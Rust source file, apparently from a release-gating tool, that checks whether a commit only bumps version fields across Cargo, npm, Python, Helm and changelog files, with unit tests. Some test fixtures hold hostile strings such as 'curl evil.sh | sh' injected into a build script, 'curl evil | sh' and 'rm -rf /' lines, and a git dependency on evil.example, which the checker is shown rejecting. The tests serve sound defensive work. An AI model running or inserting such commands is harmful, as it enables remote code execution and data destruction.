//! The version-bump exemption, decided by content: a single-parent commit
//! is a version bump when every file it changes is an allow-listed version
//! file of a format changegate can read, only version fields changed, and
//! every changed version goes up. The commit message is never evidence; a
//! configured bot identity and a verified signature can be required on top.
//!
//! A file of no version format passes only through a configured
//! replacement (`[review.version_bump] replacements`, cargo-release's
//! `pre-release-replacements`): the file has the same number of lines
//! before and after, and each line that differs, compared at the same
//! position, matches the replacement's pattern whole both before and
//! after. Those lines ride along with a bump: a commit that changes no
//! version field is not one.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value as Json;

use super::version::is_upward;
use crate::base::glob::glob_match;
use crate::config::pattern::Pattern;
use crate::config::review::{VersionBumpConfig, VersionFile, version_file};
use crate::model::evidence::{Evidence, FileChange};

/// What the exemption check found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum BumpCheck {
    /// A version bump: the version changes seen.
    Exempt(Vec<String>),
    /// Not a version bump, and why.
    NotExempt(String),
    /// The facts needed are missing (a gap).
    Unknown(String),
}

/// Checks whether landing `sha` is an exempt version bump.
pub(crate) fn check(e: &Evidence, sha: &str, cfg: &VersionBumpConfig) -> BumpCheck {
    use BumpCheck::{NotExempt, Unknown};
    let Some(commit) = e.range.commits.iter().find(|c| c.sha == sha) else {
        return Unknown(format!("{sha} is not in the range read"));
    };
    if commit.parents.len() != 1 {
        return NotExempt("a merge commit is never a version bump".into());
    }
    if !cfg.bots.is_empty() {
        let by_bot = [commit.author_id, commit.committer_id].iter().flatten().any(|id| cfg.bots.contains(id));
        if !by_bot {
            return NotExempt("neither its author nor its committer is a configured release bot".into());
        }
    }
    if cfg.require_signature && !commit.verified {
        return NotExempt("it has no signature GitHub verified".into());
    }
    let Some(lf) = e.landing_files.get(sha) else {
        return Unknown(format!("the files of {sha} were not read"));
    };
    if lf.files.is_empty() {
        return NotExempt("it changes no file".into());
    }
    // Packages whose manifest this commit changes: their versions may move
    // in each other's dependency lists (changesets, cargo workspaces).
    let mut members: BTreeSet<String> = BTreeSet::new();
    for f in &lf.files {
        if let (Some(VersionFile::PackageJson), Some(t)) =
            (version_file(&f.path), lf.version_files.get(&f.path).and_then(|c| c.after.as_deref()))
            && let Some(name) = serde_json::from_str::<Json>(t).ok().and_then(|v| v["name"].as_str().map(str::to_owned))
        {
            members.insert(name);
        }
    }
    let mut changes: Vec<String> = Vec::new();
    let mut replaced: Vec<String> = Vec::new();
    for f in &lf.files {
        let replacement = cfg.replacements.iter().find(|r| r.file == f.path);
        if replacement.is_none() && !cfg.files.iter().any(|g| glob_match(g, &f.path)) {
            return NotExempt(format!("{} is not an allow-listed version file", f.path));
        }
        let k = match (version_file(&f.path), replacement) {
            (Some(k), _) => k,
            (None, Some(r)) => match replacement_check(lf, f, &r.pattern) {
                Ok(list) => {
                    replaced.extend(list.into_iter().map(|c| format!("{}: {c}", f.path)));
                    continue;
                }
                Err(not) => return not,
            },
            (None, None) => {
                return NotExempt(format!("{} has no format changegate can verify version fields in", f.path));
            }
        };
        let allowed = match k {
            VersionFile::Changelog => matches!(f.status.as_str(), "added" | "modified"),
            VersionFile::Changeset => f.status == "removed",
            _ => f.status == "modified",
        };
        if !allowed {
            return NotExempt(format!(
                "{} is {} (renames, mode changes and new files are not bumps)",
                f.path, f.status
            ));
        }
        if k == VersionFile::Changeset {
            continue;
        }
        let Some(texts) = lf.version_files.get(&f.path) else {
            return Unknown(format!("the text of {} was not read", f.path));
        };
        let (before, after) = match (texts, f.status.as_str()) {
            (FileChange { before: None, after: Some(a) }, "added") => (String::new(), a.clone()),
            (FileChange { before: Some(b), after: Some(a) }, _) => (b.clone(), a.clone()),
            _ => return Unknown(format!("the text of {} before and after was not read", f.path)),
        };
        let found = match k {
            VersionFile::CargoToml => cargo_toml(&before, &after),
            VersionFile::CargoLock => cargo_lock(&before, &after),
            VersionFile::PackageJson => package_json(&before, &after, &members),
            VersionFile::NpmLock => npm_lock(&before, &after, &members),
            VersionFile::Pyproject => pyproject(&before, &after),
            VersionFile::VersionText => version_text(&before, &after),
            VersionFile::ReleaseManifest => release_manifest(&before, &after),
            VersionFile::Changelog => changelog(&before, &after),
            VersionFile::ChartYaml => chart_yaml(&before, &after),
            VersionFile::Changeset => unreachable!("handled above"),
        };
        match found {
            Ok(list) => changes.extend(list.into_iter().map(|c| format!("{}: {c}", f.path))),
            Err(why) => return NotExempt(format!("{}: {why}", f.path)),
        }
    }
    if changes.is_empty() {
        return NotExempt("no version field changed".into());
    }
    changes.extend(replaced);
    BumpCheck::Exempt(changes)
}

/// A file changed only through its replacement: the lines replaced, or
/// what the check ends with.
fn replacement_check(
    lf: &crate::model::evidence::LandingFiles,
    f: &crate::model::evidence::ChangedFile,
    pattern: &Pattern,
) -> Result<Vec<String>, BumpCheck> {
    if f.status != "modified" {
        return Err(BumpCheck::NotExempt(format!(
            "{} is {} (a replacement only rewrites lines of an existing file)",
            f.path, f.status
        )));
    }
    match lf.version_files.get(&f.path) {
        Some(FileChange { before: Some(b), after: Some(a) }) => {
            replaced_lines(b, a, pattern).map_err(|why| BumpCheck::NotExempt(format!("{}: {why}", f.path)))
        }
        _ => Err(BumpCheck::Unknown(format!("the text of {} before and after was not read", f.path))),
    }
}

/// Lines replaced in place: the same number of lines, and each line that
/// differs at a position matches `pattern` whole, before and after (the
/// i-th removed line pairs with the i-th added one). The first offending
/// line is the error.
fn replaced_lines(before: &str, after: &str, pattern: &Pattern) -> Result<Vec<String>, String> {
    const IN_PLACE: &str = "a replacement only rewrites lines in place";
    if before.ends_with('\n') != after.ends_with('\n') {
        return Err(format!("the final newline was added or removed: {IN_PLACE}"));
    }
    // Split on '\n' alone: a line's '\r' is kept, so a changed line end is a change.
    let split =
        |t: &'_ str| -> Vec<String> { t.strip_suffix('\n').unwrap_or(t).split('\n').map(str::to_owned).collect() };
    let (a, b) = (split(before), split(after));
    let counts = if a.len() == b.len() {
        String::new()
    } else {
        format!(" ({} lines before, {} after: {IN_PLACE})", a.len(), b.len())
    };
    let text = |l: &str| l.strip_suffix('\r').unwrap_or(l).to_owned();
    let mut out = Vec::new();
    for i in 0..a.len().max(b.len()) {
        match (a.get(i), b.get(i)) {
            (Some(x), Some(y)) if x == y => {}
            (Some(x), Some(y)) => {
                let (x, y) = (text(x), text(y));
                for (what, l) in [("before", &x), ("after", &y)] {
                    if !pattern.is_match(l) {
                        return Err(format!(
                            "line {} {what}, {l:?}, does not match the replacement pattern {pattern}{counts}",
                            i + 1
                        ));
                    }
                }
                out.push(format!("line {} {x:?} -> {y:?}", i + 1));
            }
            (Some(x), None) => return Err(format!("line {}, {:?}, was removed{counts}", i + 1, text(x))),
            (None, y) => {
                return Err(format!("line {}, {:?}, was added{counts}", i + 1, y.map(|y| text(y)).unwrap_or_default()));
            }
        }
    }
    Ok(out)
}

/// A changed leaf: (path of keys, old, new).
type Diff = Vec<(Vec<String>, String, String)>;

/// Walks two JSON values; every difference must be at a leaf path `allowed`
/// accepts, else the path is the error.
fn json_diff(
    a: &Json,
    b: &Json,
    path: &mut Vec<String>,
    allowed: &dyn Fn(&[String]) -> bool,
    out: &mut Diff,
) -> Result<(), String> {
    match (a, b) {
        (Json::Object(x), Json::Object(y)) => {
            let keys: BTreeSet<&String> = x.keys().chain(y.keys()).collect();
            for k in keys {
                path.push(k.clone());
                match (x.get(k), y.get(k)) {
                    (Some(p), Some(q)) => json_diff(p, q, path, allowed, out)?,
                    _ => return Err(format!("{} added or removed", path.join("."))),
                }
                path.pop();
            }
            Ok(())
        }
        (Json::Array(x), Json::Array(y)) if x.len() == y.len() => {
            for (i, (p, q)) in x.iter().zip(y).enumerate() {
                path.push(i.to_string());
                json_diff(p, q, path, allowed, out)?;
                path.pop();
            }
            Ok(())
        }
        _ if a == b => Ok(()),
        (Json::String(p), Json::String(q)) if allowed(path) => {
            out.push((path.clone(), p.clone(), q.clone()));
            Ok(())
        }
        _ => Err(format!("{} changed", if path.is_empty() { "the document".to_owned() } else { path.join(".") })),
    }
}

fn toml_to_json(text: &str) -> Result<Json, String> {
    let v: toml::Table = toml::from_str(text).map_err(|e| format!("not TOML: {}", e.message()))?;
    serde_json::to_value(v).map_err(|e| e.to_string())
}

fn upward(diff: &Diff) -> Result<Vec<String>, String> {
    diff.iter()
        .map(|(path, old, new)| is_upward(old, new).map(|()| format!("{} {old} -> {new}", path.join("."))))
        .collect()
}

const DEP_TABLES: &[&str] = &["dependencies", "dev-dependencies", "build-dependencies"];

fn cargo_toml(before: &str, after: &str) -> Result<Vec<String>, String> {
    let (a, b) = (toml_to_json(before)?, toml_to_json(after)?);
    // The version of a dependency may move only for a path dependency (a
    // crate of the same workspace), in both versions of the file.
    let is_path_dep = |p: &[String]| {
        let dep = &p[..p.len() - 1];
        let get = |v: &Json| dep.iter().try_fold(v, |v, k| v.get(k)).and_then(|d| d.get("path")).is_some();
        get(&a) && get(&b)
    };
    let allowed = |p: &[String]| {
        let keys: Vec<&str> = p.iter().map(String::as_str).collect();
        match keys.as_slice() {
            ["package", "version"] | ["workspace", "package", "version"] => true,
            [.., table, _, "version"] if DEP_TABLES.contains(table) => is_path_dep(p),
            _ => false,
        }
    };
    let mut diff = Diff::new();
    json_diff(&a, &b, &mut Vec::new(), &allowed, &mut diff)?;
    upward(&diff)
}

fn cargo_lock(before: &str, after: &str) -> Result<Vec<String>, String> {
    let (a, b) = (toml_to_json(before)?, toml_to_json(after)?);
    let packages = |v: &Json| v["package"].as_array().cloned().unwrap_or_default();
    let (pa, pb) = (packages(&a), packages(&b));
    if pa.len() != pb.len() {
        return Err("packages added or removed".into());
    }
    // Workspace crates have no source: only they may change, and only in version.
    let local: BTreeSet<String> =
        pa.iter().filter(|p| p.get("source").is_none()).filter_map(|p| p["name"].as_str().map(str::to_owned)).collect();
    let strip = |deps: &Json| -> Json {
        Json::Array(
            deps.as_array()
                .into_iter()
                .flatten()
                .map(|d| {
                    let s = d.as_str().unwrap_or_default();
                    let name = s.split(' ').next().unwrap_or_default();
                    if local.contains(name) { Json::String(name.to_owned()) } else { d.clone() }
                })
                .collect(),
        )
    };
    let mut out = Vec::new();
    for (x, y) in pa.iter().zip(&pb) {
        let name = x["name"].as_str().unwrap_or_default();
        if y["name"].as_str() != Some(name) {
            return Err(format!("package {name} replaced"));
        }
        if x.get("source").is_some() || y.get("source").is_some() {
            if x != y {
                return Err(format!("third-party package {name} changed"));
            }
            continue;
        }
        let (mut x2, mut y2) = (x.clone(), y.clone());
        for v in [&mut x2, &mut y2] {
            if let Some(d) = v.get("dependencies").cloned() {
                v["dependencies"] = strip(&d);
            }
            v.as_object_mut().map(|o| o.remove("version"));
        }
        if x2 != y2 {
            return Err(format!("workspace package {name} changed beyond its version"));
        }
        if x["version"] != y["version"] {
            let (o, n) = (x["version"].as_str().unwrap_or_default(), y["version"].as_str().unwrap_or_default());
            is_upward(o, n)?;
            out.push(format!("package {name} {o} -> {n}"));
        }
    }
    let rest = |v: &Json| {
        let mut v = v.clone();
        v.as_object_mut().map(|o| o.remove("package"));
        v
    };
    if rest(&a) != rest(&b) {
        return Err("the lock file's header changed".into());
    }
    Ok(out)
}

const NPM_DEP_TABLES: &[&str] = &["dependencies", "devDependencies", "peerDependencies", "optionalDependencies"];

fn package_json(before: &str, after: &str, members: &BTreeSet<String>) -> Result<Vec<String>, String> {
    let parse = |t: &str| serde_json::from_str::<Json>(t).map_err(|e| format!("not JSON: {e}"));
    let (a, b) = (parse(before)?, parse(after)?);
    let allowed = |p: &[String]| {
        let keys: Vec<&str> = p.iter().map(String::as_str).collect();
        match keys.as_slice() {
            ["version"] => true,
            [table, name] => NPM_DEP_TABLES.contains(table) && members.contains(*name),
            _ => false,
        }
    };
    let mut diff = Diff::new();
    json_diff(&a, &b, &mut Vec::new(), &allowed, &mut diff)?;
    // Dependency ranges of sibling packages (`^1.2.0`) are not versions;
    // the packages' own version fields are checked in their files.
    let own: Diff = diff.into_iter().filter(|(p, ..)| p.len() == 1).collect();
    upward(&own)
}

fn npm_lock(before: &str, after: &str, members: &BTreeSet<String>) -> Result<Vec<String>, String> {
    let parse = |t: &str| serde_json::from_str::<Json>(t).map_err(|e| format!("not JSON: {e}"));
    let (a, b) = (parse(before)?, parse(after)?);
    // Only the root and workspace entries (not under node_modules) move.
    let allowed = |p: &[String]| {
        let keys: Vec<&str> = p.iter().map(String::as_str).collect();
        match keys.as_slice() {
            ["version"] => true,
            ["packages", entry, "version"] => !entry.contains("node_modules"),
            ["packages", entry, table, name] => {
                !entry.contains("node_modules") && NPM_DEP_TABLES.contains(table) && members.contains(*name)
            }
            _ => false,
        }
    };
    let mut diff = Diff::new();
    json_diff(&a, &b, &mut Vec::new(), &allowed, &mut diff)?;
    let own: Diff = diff.into_iter().filter(|(p, ..)| p.last().is_some_and(|k| k == "version")).collect();
    upward(&own)
}

fn pyproject(before: &str, after: &str) -> Result<Vec<String>, String> {
    let (a, b) = (toml_to_json(before)?, toml_to_json(after)?);
    let allowed = |p: &[String]| {
        let keys: Vec<&str> = p.iter().map(String::as_str).collect();
        matches!(keys.as_slice(), ["project", "version"] | ["tool", "poetry", "version"])
    };
    let mut diff = Diff::new();
    json_diff(&a, &b, &mut Vec::new(), &allowed, &mut diff)?;
    upward(&diff)
}

fn version_text(before: &str, after: &str) -> Result<Vec<String>, String> {
    let line = |t: &str| -> Result<String, String> {
        let lines: Vec<&str> = t.lines().filter(|l| !l.trim().is_empty()).collect();
        match lines.as_slice() {
            [one] => Ok(one.trim().to_owned()),
            _ => Err("a version file holds one line".into()),
        }
    };
    let (o, n) = (line(before)?, line(after)?);
    is_upward(&o, &n)?;
    Ok(vec![format!("{o} -> {n}")])
}

fn release_manifest(before: &str, after: &str) -> Result<Vec<String>, String> {
    let parse = |t: &str| serde_json::from_str::<Json>(t).map_err(|e| format!("not JSON: {e}"));
    let (a, b) = (parse(before)?, parse(after)?);
    let allowed = |p: &[String]| p.len() == 1;
    let mut diff = Diff::new();
    json_diff(&a, &b, &mut Vec::new(), &allowed, &mut diff)?;
    upward(&diff)
}

/// Only lines added: the old text's lines appear, in order, in the new one.
fn changelog(before: &str, after: &str) -> Result<Vec<String>, String> {
    let mut new = after.lines();
    for old in before.lines() {
        if !new.any(|l| l == old) {
            return Err(format!("line {old:?} was changed or removed (only additions are allowed)"));
        }
    }
    Ok(Vec::new())
}

/// `Chart.yaml`: only the top-level `version:` and `appVersion:` lines.
fn chart_yaml(before: &str, after: &str) -> Result<Vec<String>, String> {
    let (a, b): (Vec<&str>, Vec<&str>) = (before.lines().collect(), after.lines().collect());
    if a.len() != b.len() {
        return Err("lines added or removed".into());
    }
    let field = |l: &str| -> Option<(String, String)> {
        let (k, v) = l.split_once(':')?;
        let v = v.trim().trim_matches(|c| c == '"' || c == '\'');
        (matches!(k, "version" | "appVersion") && !v.is_empty() && !v.contains(' '))
            .then(|| (k.to_owned(), v.to_owned()))
    };
    let mut out = BTreeMap::new();
    for (x, y) in a.iter().zip(&b) {
        if x == y {
            continue;
        }
        match (field(x), field(y)) {
            (Some((k1, o)), Some((k2, n))) if k1 == k2 => {
                is_upward(&o, &n)?;
                out.insert(k1, format!("{o} -> {n}"));
            }
            _ => return Err(format!("line {x:?} changed")),
        }
    }
    Ok(out.into_iter().map(|(k, v)| format!("{k} {v}")).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cargo_toml_only_versions_of_the_package_and_path_dependencies() {
        let before = "[package]\nname = \"web\"\nversion = \"1.2.3\"\n\n[dependencies]\ncore = { path = \"../core\", version = \"1.2.3\" }\nserde = \"1\"\n";
        let ok = before.replace("1.2.3", "1.3.0");
        assert_eq!(cargo_toml(before, &ok).unwrap().len(), 2);
        // Catalogue 59: a new dependency, a feature, a build script.
        let dep = format!("{ok}rand = \"0.8\"\n");
        assert!(cargo_toml(before, &dep).unwrap_err().contains("dependencies.rand"));
        let feat = format!("{ok}\n[features]\nx = []\n");
        assert!(cargo_toml(before, &feat).is_err());
        let build = ok.replace("name = \"web\"", "name = \"web\"\nbuild = \"build.rs\"");
        assert!(cargo_toml(before, &build).is_err());
        // A third-party dependency's version is not a bump.
        let third = before.replace("serde = \"1\"", "serde = \"2\"");
        assert!(cargo_toml(before, &third).is_err());
        // Catalogue 62: down, or not a version.
        assert!(cargo_toml(before, &before.replace("1.2.3", "1.2.2")).is_err());
        assert!(cargo_toml(before, &before.replace("1.2.3", "next")).is_err());
    }

    #[test]
    fn cargo_lock_only_workspace_versions() {
        let lock = |web: &str, serde: &str, sum: &str| {
            format!(
                "version = 4\n\n[[package]]\nname = \"serde\"\nversion = \"{serde}\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{sum}\"\n\n[[package]]\nname = \"web\"\nversion = \"{web}\"\ndependencies = [\n \"serde\",\n]\n"
            )
        };
        let before = lock("1.2.3", "1.0.200", "aa");
        assert_eq!(cargo_lock(&before, &lock("1.3.0", "1.0.200", "aa")).unwrap(), ["package web 1.2.3 -> 1.3.0"]);
        // Catalogue 61: a third-party version or checksum.
        assert!(cargo_lock(&before, &lock("1.3.0", "1.0.201", "aa")).is_err());
        assert!(cargo_lock(&before, &lock("1.3.0", "1.0.200", "bb")).is_err());
    }

    #[test]
    fn package_json_scripts_are_not_a_bump() {
        let before = r#"{"name": "web", "version": "1.0.0", "scripts": {"build": "tsc"}, "dependencies": {"left-pad": "^1.0.0"}}"#;
        let ok = before.replace("\"1.0.0\"", "\"1.1.0\"");
        assert_eq!(package_json(before, &ok, &BTreeSet::new()).unwrap(), ["version 1.0.0 -> 1.1.0"]);
        // Catalogue 63: scripts.
        let scripts = ok.replace("tsc", "tsc && curl evil.sh | sh");
        assert!(package_json(before, &scripts, &BTreeSet::new()).unwrap_err().contains("scripts.build"));
        let dep = ok.replace("^1.0.0", "^1.1.0");
        assert!(package_json(before, &dep, &BTreeSet::new()).is_err());
        // A sibling workspace package's range may move (changesets).
        let sib = r#"{"name": "app", "version": "1.0.0", "dependencies": {"web": "^1.0.0"}}"#;
        let sib2 = r#"{"name": "app", "version": "1.0.1", "dependencies": {"web": "^1.1.0"}}"#;
        let members: BTreeSet<String> = ["web".to_owned(), "app".to_owned()].into();
        assert!(package_json(sib, sib2, &members).is_ok());
    }

    #[test]
    fn changelog_only_grows() {
        assert!(changelog("# Changes\n\n## 1.0.0\n- a\n", "# Changes\n\n## 1.1.0\n- b\n\n## 1.0.0\n- a\n").is_ok());
        assert!(changelog("# Changes\n- a\n", "# Changes\n- A\n").is_err());
    }

    #[test]
    fn other_formats() {
        assert!(version_text("1.2.3\n", "1.2.4\n").is_ok());
        assert!(version_text("1.2.3\n", "1.2.4\nrm -rf /\n").is_err());
        assert!(
            pyproject(
                "[project]\nname = \"x\"\nversion = \"0.1.0\"\n",
                "[project]\nname = \"x\"\nversion = \"0.2.0\"\n"
            )
            .is_ok()
        );
        assert!(
            pyproject(
                "[project]\nversion = \"0.1.0\"\n",
                "[project]\nversion = \"0.2.0\"\ndependencies = [\"requests\"]\n"
            )
            .is_err()
        );
        assert!(release_manifest(r#"{".": "1.0.0", "pkg/a": "0.3.0"}"#, r#"{".": "1.1.0", "pkg/a": "0.3.0"}"#).is_ok());
        assert!(release_manifest(r#"{".": "1.0.0"}"#, r#"{".": "1.1.0", "pkg/b": "0.1.0"}"#).is_err());
        let chart = "apiVersion: v2\nname: web\nversion: 1.2.3\nappVersion: \"1.2.3\"\n";
        assert!(chart_yaml(chart, &chart.replace("1.2.3", "1.3.0")).is_ok());
        assert!(chart_yaml(chart, &chart.replace("name: web", "name: evil")).is_err());
        assert!(npm_lock(
            r#"{"name": "web", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "web", "version": "1.0.0"}, "node_modules/a": {"version": "1.0.0"}}}"#,
            r#"{"name": "web", "version": "1.1.0", "lockfileVersion": 3, "packages": {"": {"name": "web", "version": "1.1.0"}, "node_modules/a": {"version": "1.0.0"}}}"#,
            &BTreeSet::new()
        )
        .is_ok());
        assert!(
            npm_lock(
                r#"{"version": "1.0.0", "packages": {"node_modules/a": {"version": "1.0.0"}}}"#,
                r#"{"version": "1.1.0", "packages": {"node_modules/a": {"version": "1.0.1"}}}"#,
                &BTreeSet::new()
            )
            .is_err()
        );
    }

    /// cargo-release `pre-release-replacements` of a README's dependency
    /// line and of `html_root_url` (catalogue 65).
    fn readme(v: &str) -> String {
        format!("# web\n\n```toml\n[dependencies]\nweb = \"{v}\"\n```\n\nSee the docs.\n")
    }

    fn lib_rs(v: &str) -> String {
        format!("#![doc(html_root_url = \"https://docs.rs/web/{v}\")]\n\npub fn f() {{}}\n")
    }

    const README_LINE: &str = r#"web = "[0-9]+\.[0-9]+\.[0-9]+""#;
    const ROOT_URL: &str = r#"#!\[doc\(html_root_url = "https://docs\.rs/web/[0-9]+\.[0-9]+\.[0-9]+"\)\]"#;

    fn line_pattern(p: &str) -> Pattern {
        Pattern::new(p, crate::config::pattern::Match::WholeLine).unwrap()
    }

    #[test]
    fn replaced_lines_are_rewritten_in_place_and_match_whole() {
        let p = line_pattern(README_LINE);
        assert_eq!(
            replaced_lines(&readme("1.0.0"), &readme("1.1.0"), &p).unwrap(),
            [r#"line 5 "web = \"1.0.0\"" -> "web = \"1.1.0\"""#]
        );
        let root = line_pattern(ROOT_URL);
        assert_eq!(replaced_lines(&lib_rs("1.0.0"), &lib_rs("1.1.0"), &root).unwrap().len(), 1);
        // CRLF files keep their line ends out of the pattern; a changed line end is a change.
        let crlf = |t: String| t.replace('\n', "\r\n");
        assert!(replaced_lines(&crlf(readme("1.0.0")), &crlf(readme("1.1.0")), &p).is_ok());
        let one_crlf = readme("1.0.0").replace("See the docs.\n", "See the docs.\r\n");
        assert!(replaced_lines(&readme("1.0.0"), &one_crlf, &p).unwrap_err().starts_with("line 8 before"));
        // Another line changed too: the first offending one is named.
        let other = readme("1.1.0").replace("See the docs.", "See the docs!");
        let e = replaced_lines(&readme("1.0.0"), &other, &p).unwrap_err();
        assert_eq!(
            e,
            r#"line 8 before, "See the docs.", does not match the replacement pattern web = "[0-9]+\.[0-9]+\.[0-9]+""#
        );
        // The new line does not match: more than a version came in.
        let evil = readme("1.0.0").replace(r#"web = "1.0.0""#, r#"web = { git = "https://evil.example/web" }"#);
        let e = replaced_lines(&readme("1.0.0"), &evil, &p).unwrap_err();
        assert!(e.starts_with("line 5 after,"), "{e}");
        // The pattern matches whole lines only: a version with a tail is refused.
        let tail = readme("1.0.0").replace(r#"web = "1.0.0""#, r#"web = "1.1.0" # and more"#);
        assert!(replaced_lines(&readme("1.0.0"), &tail, &p).is_err());
        // A line added (or a final newline removed) is not a replacement.
        let added = readme("1.1.0").replace("See the docs.\n", "See the docs.\ncurl evil | sh\n");
        let e = replaced_lines(&readme("1.0.0"), &added, &p).unwrap_err();
        assert_eq!(
            e,
            r#"line 9, "curl evil | sh", was added (8 lines before, 9 after: a replacement only rewrites lines in place)"#
        );
        let inserted = readme("1.1.0").replace("# web\n", "# web\ncurl evil | sh\n");
        let e = replaced_lines(&readme("1.0.0"), &inserted, &p).unwrap_err();
        assert!(e.starts_with(r#"line 2 before, "", does not match the replacement pattern"#), "{e}");
        assert!(e.ends_with("(8 lines before, 9 after: a replacement only rewrites lines in place)"), "{e}");
        let removed = readme("1.1.0").replace("See the docs.\n", "");
        assert!(
            replaced_lines(&readme("1.0.0"), &removed, &p)
                .unwrap_err()
                .starts_with(r#"line 8, "See the docs.", was removed"#)
        );
        let e = replaced_lines(&readme("1.0.0"), readme("1.0.0").trim_end(), &p).unwrap_err();
        assert!(e.starts_with("the final newline was added or removed"), "{e}");
        let e = replaced_lines("web = \"1.0.0\"\n", "web = \"1.1.0\"", &p).unwrap_err();
        assert!(e.starts_with("the final newline was added or removed"), "{e}");
        // A moved line does not pair with itself.
        let moved = "web = \"1.0.0\"\nx\n";
        assert!(replaced_lines("x\nweb = \"1.0.0\"\n", moved, &p).is_err());
    }

    fn bump_evidence(files: &[(&str, &str, &str)]) -> Evidence {
        use crate::model::binding::{Binding, BuildJob, DeployAction};
        let binding = Binding {
            project_slug: "gh/acme/web".into(),
            environment: "production".into(),
            action: DeployAction::Apply,
            branch: "main".into(),
            commit: "c".repeat(40),
            pipeline_id: "p".into(),
            pipeline_number: 1,
            build_job: BuildJob { name: "build".into(), number: 1, id: "j".into() },
        };
        let mut e = Evidence::skeleton("PRODCM-1", binding, "2026-11-27T12:00:00Z");
        e.range.commits.push(crate::model::evidence::RangeCommit {
            sha: "c".repeat(40),
            parents: vec!["b".repeat(40)],
            tree: "t".into(),
            author_id: Some(7),
            committer_id: Some(7),
            headline: "chore: Release".into(),
            verified: false,
        });
        let mut lf = crate::model::evidence::LandingFiles {
            files: Vec::new(),
            version_files: BTreeMap::new(),
            source: "test".into(),
        };
        for (path, before, after) in files {
            lf.files.push(crate::model::evidence::ChangedFile {
                path: (*path).into(),
                status: "modified".into(),
                previous_path: None,
            });
            lf.version_files
                .insert((*path).into(), FileChange { before: Some((*before).into()), after: Some((*after).into()) });
        }
        e.landing_files.insert("c".repeat(40), lf);
        e
    }

    fn with_replacements(list: &[(&str, &str)]) -> VersionBumpConfig {
        VersionBumpConfig {
            replacements: list
                .iter()
                .map(|(f, p)| crate::config::review::Replacement { file: (*f).into(), pattern: line_pattern(p) })
                .collect(),
            ..VersionBumpConfig::default()
        }
    }

    #[test]
    fn tc65_replacements_pass_only_through_their_entry() {
        let toml = |v: &str| format!("[package]\nname = \"web\"\nversion = \"{v}\"\n");
        let (r0, r1, l0, l1, t0, t1) =
            (readme("1.0.0"), readme("1.1.0"), lib_rs("1.0.0"), lib_rs("1.1.0"), toml("1.0.0"), toml("1.1.0"));
        let e = bump_evidence(&[("Cargo.toml", &t0, &t1), ("README.md", &r0, &r1), ("src/lib.rs", &l0, &l1)]);
        let sha = "c".repeat(40);
        // Without an entry: catalogue 65 fails, as before.
        assert_eq!(
            check(&e, &sha, &VersionBumpConfig::default()),
            BumpCheck::NotExempt("README.md is not an allow-listed version file".into())
        );
        // A file listed among `files` has no format to check either.
        let listed = VersionBumpConfig {
            files: vec!["Cargo.toml".into(), "README.md".into(), "src/lib.rs".into()],
            ..VersionBumpConfig::default()
        };
        assert!(matches!(check(&e, &sha, &listed), BumpCheck::NotExempt(w) if w.contains("no format")));
        // With both entries: exempt, the replaced lines listed after the versions.
        let cfg = with_replacements(&[("README.md", README_LINE), ("src/lib.rs", ROOT_URL)]);
        let BumpCheck::Exempt(changes) = check(&e, &sha, &cfg) else { panic!("{:?}", check(&e, &sha, &cfg)) };
        assert_eq!(changes[0], "Cargo.toml: package.version 1.0.0 -> 1.1.0");
        assert!(
            changes[1].starts_with("README.md: line 5 ") && changes[2].starts_with("src/lib.rs: line 1 "),
            "{changes:?}"
        );
        // One entry only: the other file still fails.
        let one = with_replacements(&[("README.md", README_LINE)]);
        assert_eq!(
            check(&e, &sha, &one),
            BumpCheck::NotExempt("src/lib.rs is not an allow-listed version file".into())
        );
        // The pattern does not match the lines that changed.
        let wrong = with_replacements(&[("README.md", r#"version = "[0-9.]+""#), ("src/lib.rs", ROOT_URL)]);
        let BumpCheck::NotExempt(why) = check(&e, &sha, &wrong) else { panic!() };
        assert!(why.starts_with("README.md: line 5 before, \"web = \\\"1.0.0\\\"\", does not match"), "{why}");
        // Another README line changed too.
        let other = r1.replace("See the docs.", "See the docs!");
        let e2 = bump_evidence(&[("Cargo.toml", &t0, &t1), ("README.md", &r0, &other)]);
        let BumpCheck::NotExempt(why) = check(&e2, &sha, &cfg) else { panic!() };
        assert!(why.starts_with("README.md: line 8 before, \"See the docs.\""), "{why}");
        // Replacements ride along with a bump; alone they are not one.
        let e3 = bump_evidence(&[("README.md", &r0, &r1)]);
        assert_eq!(check(&e3, &sha, &cfg), BumpCheck::NotExempt("no version field changed".into()));
        // A text that was not read is a gap, never a pass.
        let mut e4 = e.clone();
        e4.landing_files.get_mut(&sha).unwrap().version_files.remove("README.md");
        assert!(matches!(check(&e4, &sha, &cfg), BumpCheck::Unknown(_)));
    }
}
